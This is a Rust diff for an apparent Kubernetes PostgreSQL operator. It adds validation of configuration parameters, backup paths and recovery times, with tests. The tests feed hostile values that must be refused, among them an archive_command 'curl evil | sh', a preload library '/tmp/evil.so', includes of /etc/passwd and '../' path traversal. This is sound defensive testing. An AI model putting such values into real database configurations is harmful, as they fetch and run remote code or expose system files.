@@ -830,10 +830,12 @@ async fn existing_password(
         .unwrap_or_else(Password::generate))
 }
 
-/// Checks in code what the schema checks at admission.
+/// Checks in code what the schema checks at admission, and the values of known parameters
+/// ([`crate::parameters::check`]), before anything is written.
 ///
 /// # Errors
-/// [`Error::InvalidSpec`] (permanent).
+/// [`Error::InvalidSpec`] or [`Error::InvalidParameters`] (permanent: nothing is retried, and
+/// nothing rolls out, until the spec changes).
 pub fn validate(cluster: &PostgresCluster) -> Result<(), Error> {
     let spec = &cluster.spec;
     if !(1..=9).contains(&spec.instances) {
@@ -856,6 +858,11 @@ pub fn validate(cluster: &PostgresCluster) -> Result<(), Error> {
             )));
         }
     }
+    crate::parameters::check(spec.version, &spec.parameters).map_err(|problems| {
+        Error::InvalidParameters(format!(
+            "{problems}; nothing was rolled out: the instances keep the last valid configuration"
+        ))
+    })?;
     connection_slots(spec.version, &spec.parameters).map_err(Error::InvalidParameters)?;
     if let Some(n) = spec
         .synchronous_replicas
@@ -868,6 +875,37 @@ pub fn validate(cluster: &PostgresCluster) -> Result<(), Error> {
     }
     if let Some(schedule) = spec.backup.as_ref().and_then(|b| b.schedule.as_deref()) {
         backup::parse_schedule(schedule).map_err(Error::InvalidSpec)?;
+    }
+    let stores = [
+        ("spec.backup", spec.backup.as_ref().map(|b| &b.object_store)),
+        (
+            "spec.bootstrap.recovery",
+            spec.bootstrap.as_ref().map(|b| &b.recovery.object_store),
+        ),
+    ];
+    for (field, store) in stores {
+        let Some(path) = store.map(|s| s.path.as_str()) else {
+            continue;
+        };
+        if path.starts_with('/')
+            || path.contains("//")
+            || path.split('/').any(|s| s == "." || s == "..")
+        {
+            return Err(Error::InvalidSpec(format!(
+                "{field}.objectStore.path {path:?} must be relative, without '.' or '..' segments or '//'"
+            )));
+        }
+    }
+    if let Some(time) = spec
+        .bootstrap
+        .as_ref()
+        .and_then(|b| b.recovery.target_time.as_deref())
+    {
+        time.parse::<jiff::Timestamp>().map_err(|e| {
+            Error::InvalidSpec(format!(
+                "spec.bootstrap.recovery.targetTime {time:?} is not an RFC 3339 time: {e}"
+            ))
+        })?;
     }
     if let (Some(backup), Some(bootstrap)) = (&spec.backup, &spec.bootstrap) {
         let (own, source) = (&backup.object_store, &bootstrap.recovery.object_store);
@@ -1040,7 +1078,7 @@ mod tests {
         );
         assert!(validate(&c).is_ok());
         c.spec.backup = Some(crate::crd::ClusterBackup {
-            object_store: store("/prod/pg/"),
+            object_store: store("prod/pg/"),
             schedule: None,
             keep: None,
         });
@@ -1253,7 +1291,10 @@ mod tests {
         c.spec
             .parameters
             .insert("max_connections".into(), "a lot".into());
-        assert!(validate(&c).is_ok(), "left to PostgreSQL");
+        assert!(
+            matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.contains("max_connections = 'a lot' is not valid")),
+            "not an integer: refused with the other values"
+        );
     }
 
     #[test]
@@ -1413,6 +1454,89 @@ mod tests {
         assert!(
             !config_map(&c).data.unwrap()["postgresql.conf"].contains("synchronous_standby_names")
         );
+    }
+
+    /// Issue #39, item 5: every one of these was admitted, and a bad value took the cluster
+    /// down on its next restart.
+    #[test]
+    fn validate_refuses_owned_and_bad_parameters_before_anything_rolls() {
+        let mut c = cluster("pg");
+        c.spec
+            .parameters
+            .insert("log_statement".into(), "bogus".into());
+        let err = validate(&c).unwrap_err();
+        assert!(
+            matches!(&err, Error::InvalidParameters(m) if m.contains("log_statement = 'bogus'") && m.contains("keep the last valid configuration")),
+            "{err}"
+        );
+        for (key, value) in [
+            ("include", "/etc/passwd"),
+            ("include_dir", "/etc"),
+            ("include_if_exists", "/etc/passwd"),
+            ("archive_command", "curl evil | sh"),
+            ("restore_command", "sh -c id"),
+            ("ssl", "off"),
+            ("ssl_ca_file", "/etc/passwd"),
+            ("shared_preload_libraries", "/tmp/evil.so"),
+        ] {
+            let mut c = cluster("pg");
+            c.spec.parameters.insert(key.into(), value.into());
+            assert!(
+                matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.starts_with(key)),
+                "{key}"
+            );
+        }
+        let mut c = cluster("pg");
+        c.spec
+            .parameters
+            .insert("log_statement".into(), "ddl".into());
+        assert!(validate(&c).is_ok());
+    }
+
+    #[test]
+    fn validate_refuses_paths_that_climb_and_times_that_do_not_exist() {
+        use crate::crd::{Bootstrap, ClusterBackup, Recovery};
+        let backed_up = |path: &str| {
+            let mut c = cluster("pg");
+            c.spec.backup = Some(ClusterBackup {
+                object_store: store(path),
+                schedule: None,
+                keep: None,
+            });
+            c
+        };
+        assert!(validate(&backed_up("prod/orders-db")).is_ok());
+        assert!(validate(&backed_up("prod/orders-db/")).is_ok());
+        for path in ["../../other/cluster", "a/../b", "/abs", "a//b", "./a"] {
+            assert!(
+                matches!(validate(&backed_up(path)), Err(Error::InvalidSpec(m)) if m.contains("spec.backup.objectStore.path")),
+                "{path}"
+            );
+        }
+        let restored = |time: &str| {
+            let mut c = cluster("pg");
+            c.spec.bootstrap = Some(Bootstrap {
+                recovery: Recovery {
+                    object_store: store("src"),
+                    target_time: Some(time.into()),
+                },
+            });
+            c
+        };
+        assert!(validate(&restored("2026-12-02T03:04:05Z")).is_ok());
+        assert!(validate(&restored("2028-02-29T03:04:05.25+02:00")).is_ok());
+        // As the API server's `format: date-time` admits it.
+        assert!(validate(&restored("2026-12-02t03:04:05z")).is_ok());
+        for time in [
+            "2026-02-30T25:61:00Z",
+            "2026-02-29T00:00:00Z",
+            "2026-12-02T24:00:00Z",
+        ] {
+            assert!(
+                matches!(validate(&restored(time)), Err(Error::InvalidSpec(m)) if m.contains("targetTime")),
+                "{time}"
+            );
+        }
     }
 
     #[test]
